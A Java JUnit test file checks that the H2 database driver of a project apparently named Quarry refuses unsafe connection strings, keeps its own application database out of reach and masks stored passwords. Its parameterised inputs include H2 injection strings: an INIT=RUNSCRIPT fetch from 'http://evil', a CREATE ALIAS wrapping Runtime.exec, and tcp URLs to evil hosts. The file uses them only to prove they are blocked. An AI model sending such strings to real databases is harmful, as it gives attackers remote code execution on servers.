package io.quarry.driver;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertNotSame;
import static org.junit.jupiter.api.Assertions.assertNull;
import static org.junit.jupiter.api.Assertions.assertSame;
import static org.junit.jupiter.api.Assertions.assertThrows;
import static org.junit.jupiter.api.Assertions.assertTrue;

import io.quarry.driver.h2.H2Driver;
import io.quarry.web.error.ApiException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.sql.Connection;
import java.sql.DriverManager;
import java.util.Map;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/** The H2 driver accepts plain files only: every known connection-string trick is refused, naming the db field. */
class H2DriverTest {
    @TempDir
    Path dir;

    private static String refusal(H2Driver driver, String db) {
        ApiException e = assertThrows(ApiException.class, () -> driver.connectionSpec(Map.of("db", db)), db);
        assertEquals(400, e.status());
        @SuppressWarnings("unchecked")
        Map<String, Object> errors = (Map<String, Object>) e.body().get("errors");
        assertTrue(errors.containsKey("db"), "names the db field: " + errors);
        return errors.get("db").toString();
    }

    @ParameterizedTest
    @ValueSource(strings = {
            "file:/tmp/x;INIT=RUNSCRIPT FROM 'http://evil/x.sql'",
            "/tmp/x;init=CREATE ALIAS EXEC AS 'void e(String c) throws Exception {Runtime.getRuntime().exec(c);}'",
            "/tmp/x; INIT =RUNSCRIPT FROM '/tmp/evil.sql'",
            "/tmp/x;TRACE_LEVEL_FILE=3",
            "/tmp/x;AUTO_SERVER=TRUE",
            "/tmp/x;FILE_LOCK=NO",
            "/tmp/x;ACCESS_MODE_DATA=r;INIT=SELECT 1",
            "/tmp/x;OPEN_NEW=TRUE",
            "/tmp/x;CIPHER=AES"})
    void optionsOutsideTheAllowListAreRefused(String db) {
        assertTrue(refusal(new H2Driver(), db).contains("is not allowed"), db);
    }

    @ParameterizedTest
    @ValueSource(strings = {"tcp://evil.example.com:9092/x", "ssl://evil:9092/x", "mem:test", "mem:", "zip:/tmp/x.zip!/db",
            "jdbc:h2:tcp://evil/x", "jdbc:h2:mem:x", "nioMapped:/tmp/x", "nio:/tmp/x", "split:/tmp/x", "async:/tmp/x",
            "memFS:/tmp/x", "memLZF:x", "retry:/tmp/x", "JDBC:H2:ZIP:/tmp/a.zip!/b"})
    void onlyPlainFilesAreAccepted(String db) {
        assertTrue(refusal(new H2Driver(), db).startsWith("Only H2 database files are supported"), db);
    }

    @Test
    void plainFilesGetTheirPathNormalisedAndNeverCreateADatabase() {
        H2Driver driver = new H2Driver();
        Driver.ConnectionSpec spec = driver.connectionSpec(Map.of("db", "file:" + dir + "/a/../shop.mv.db;ACCESS_MODE_DATA=r;USER=GUEST;PASSWORD=guest",
                "password", "other"));
        // the URL is the file alone: every setting is a property, which H2 never unescapes
        assertEquals("jdbc:h2:file:" + dir.resolve("shop"), spec.url());
        assertEquals("GUEST", spec.properties().getProperty("user"));
        assertEquals("other", spec.properties().getProperty("password"), "the password detail wins over the URL's");
        assertEquals("TRUE", spec.properties().getProperty("IFEXISTS"));
        assertEquals("r", spec.properties().getProperty("ACCESS_MODE_DATA"), "read-only unless Quarry may write to it");
        assertEquals("rw", driver.connectionSpec(Map.of("db", dir + "/x;ACCESS_MODE_DATA=r"), true).properties().getProperty("ACCESS_MODE_DATA"));
        // IFEXISTS=FALSE cannot switch creation back on, nor ACCESS_MODE_DATA=rw writing
        Driver.ConnectionSpec tried = driver.connectionSpec(Map.of("db", dir + "/x;IFEXISTS=FALSE;ACCESS_MODE_DATA=rw"));
        assertEquals("TRUE", tried.properties().getProperty("IFEXISTS"));
        assertEquals("r", tried.properties().getProperty("ACCESS_MODE_DATA"));
        assertEquals("jdbc:h2:file:" + dir.resolve("x"), tried.url());
    }

    /**
     * Issue #25 (7): a trailing backslash on the last option once escaped the {@code ;} of the {@code ;IFEXISTS=TRUE}
     * Quarry appended, so H2 created a new database at any writable path. Values are properties now, and a backslash
     * in one is refused.
     */
    @Test
    void aTrailingBackslashCannotSwallowIfExists() throws Exception {
        H2Driver driver = new H2Driver();
        assertTrue(refusal(driver, "file:" + dir + "/created;MODE=PostgreSQL\\").contains("backslash"));
        Driver.ConnectionSpec spec = driver.connectionSpec(Map.of("db", "file:" + dir + "/created;MODE=PostgreSQL"));
        assertEquals("TRUE", spec.properties().getProperty("IFEXISTS"));
        java.util.Properties properties = new java.util.Properties();
        properties.putAll(spec.properties());
        properties.setProperty("user", "sa");
        assertThrows(java.sql.SQLException.class, () -> new org.h2.Driver().connect(spec.url(), properties).close(),
                "no database is created where none exists");
        assertFalse(java.nio.file.Files.exists(dir.resolve("created.mv.db")));
    }

    @Test
    void quarrysOwnApplicationDatabaseIsRefusedHoweverItIsWritten() throws Exception {
        Path app = dir.resolve("quarry");
        try (Connection c = DriverManager.getConnection("jdbc:h2:file:" + app + ";DB_CLOSE_ON_EXIT=FALSE", "sa", "")) {
            c.createStatement().execute("CREATE TABLE core_user (id INT)");
        }
        H2Driver driver = new H2Driver(H2Driver.fileOf("jdbc:h2:file:" + app + ";DB_CLOSE_ON_EXIT=FALSE"));
        String message = "Quarry's own application database cannot be added as a database.";
        assertEquals(message, refusal(driver, app.toString()));
        assertEquals(message, refusal(driver, "file:" + app + ".mv.db"));
        assertEquals(message, refusal(driver, "jdbc:h2:file:" + dir + "/sub/../quarry;ACCESS_MODE_DATA=r"));
        Path link = Files.createSymbolicLink(dir.resolve("link"), dir);
        assertEquals(message, refusal(driver, link.resolve("quarry").toString()), "through a symbolic link");
        // another file beside it is fine
        driver.connectionSpec(Map.of("db", dir.resolve("other").toString()));
    }

    @Test
    void theApplicationDatabaseFileIsReadFromItsUrl() {
        assertEquals(Path.of("/var/q/app"), H2Driver.fileOf("jdbc:h2:file:/var/q/app;DB_CLOSE_ON_EXIT=FALSE"));
        assertEquals(Path.of("/var/q/app"), H2Driver.fileOf("jdbc:h2:/var/q/app.mv.db"));
        assertEquals(null, H2Driver.fileOf("jdbc:postgresql://localhost/x"));
        assertEquals(null, H2Driver.fileOf("jdbc:h2:mem:x"));
        assertEquals(null, H2Driver.fileOf(null));
    }

    @Test
    void failuresAreExplainedPerField() throws Exception {
        H2Driver driver = new H2Driver();
        Map<String, Object> missing = Map.of("db", dir.resolve("nothing-here").toString());
        java.sql.SQLException failure = assertThrows(java.sql.SQLException.class, () -> Drivers.open(driver.connectionSpec(missing)));
        assertEquals(Map.of("message", "Database cannot be found.", "db", "check your connection string"),
                driver.explainConnectionFailure(failure, missing));
        assertFalse(Files.exists(dir.resolve("nothing-here.mv.db")), "no database was created");

        Path file = dir.resolve("locked");
        try (Connection c = DriverManager.getConnection("jdbc:h2:file:" + file, "sa", "right")) {
            c.createStatement().execute("CREATE TABLE t (id INT)");
        }
        Map<String, Object> wrong = Map.of("db", file.toString(), "user", "sa", "password", "wrong");
        failure = assertThrows(java.sql.SQLException.class, () -> Drivers.open(driver.connectionSpec(wrong)));
        Map<String, String> explained = driver.explainConnectionFailure(failure, wrong);
        assertEquals("check your password", explained.get("password"));
        assertEquals("Looks like the Username or Password is incorrect.", explained.get("message"));
    }

    @Test
    void onlyH2LocksItsPersistedTablesPerDatabase() {
        H2Driver driver = new H2Driver();
        java.util.concurrent.locks.ReadWriteLock one = driver.persistedTablesLock(1);
        assertSame(one, driver.persistedTablesLock(1));
        assertNotSame(one, driver.persistedTablesLock(2));
        // engines whose swap readers cannot see between need none
        assertNull(new io.quarry.driver.postgres.PostgresDriver().persistedTablesLock(1));
        assertNull(new io.quarry.driver.mysql.MySqlDriver().persistedTablesLock(1));
    }

    @Test
    void aPasswordInsideTheConnectionStringIsMaskedAndSentBackMaskedKeepsTheStoredOne() {
        H2Driver h2 = new H2Driver();
        Map<String, Object> stored = Map.of("db", "file:/data/shop;USER=ada;password=hunter2;MODE=PostgreSQL", "password", "pw");
        Map<String, Object> masked = h2.maskedDetails(stored);
        assertEquals("file:/data/shop;USER=ada;password=" + Driver.SECRET_PLACEHOLDER + ";MODE=PostgreSQL", masked.get("db"));
        assertEquals(Driver.SECRET_PLACEHOLDER, masked.get("password"));
        assertEquals(stored, h2.mergedDetails(stored, masked), "sent back as shown, nothing changes");
        // a new path keeps the stored password; a password typed in clear replaces it
        assertEquals("file:/data/other;USER=ada;PASSWORD=hunter2", h2.mergedDetails(stored,
                Map.of("db", "file:/data/other;USER=ada;PASSWORD=" + Driver.SECRET_PLACEHOLDER)).get("db"));
        assertEquals("file:/data/shop;PASSWORD=new", h2.mergedDetails(stored, Map.of("db", "file:/data/shop;PASSWORD=new")).get("db"));
        // the placeholder is never stored as a password, nor is a string without one touched
        assertEquals("file:/x;USER=ada", h2.mergedDetails(Map.of("db", "file:/x"),
                Map.of("db", "file:/x;USER=ada;PASSWORD=" + Driver.SECRET_PLACEHOLDER)).get("db"));
        assertEquals("file:/x;PASSWORD=", h2.maskedDetails(Map.of("db", "file:/x;PASSWORD=")).get("db"));
    }
}
